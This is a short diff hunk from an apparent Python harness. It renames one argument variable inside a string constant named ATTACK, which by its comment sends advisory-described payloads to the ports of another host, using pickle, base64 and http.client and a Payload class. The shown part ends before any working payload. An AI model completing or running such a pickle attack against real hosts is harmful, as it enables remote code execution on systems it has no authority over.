@@ -46,7 +46,7 @@ JOBS = {
 # Sends what the advisories describe to each port of another host.
 ATTACK = """
 import base64, http.client, pickle, sys
-folder, address, *ports = sys.argv[1:]
+directory, address, *ports = sys.argv[1:]
 class Payload:
     def __init__(self, name):
         self.name = name
